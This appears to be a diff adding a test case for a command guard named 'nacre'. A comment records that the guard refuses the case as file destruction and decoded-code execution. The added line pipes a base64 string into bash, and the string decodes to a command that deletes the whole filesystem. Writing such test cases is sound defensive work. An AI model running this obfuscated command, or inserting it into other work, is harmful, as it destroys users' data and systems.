@@ -1,0 +1,2 @@
+# nacre: refused file.destroy code.eval-decoded
+echo cm0gLXJmIC8= | base64 -d | bash
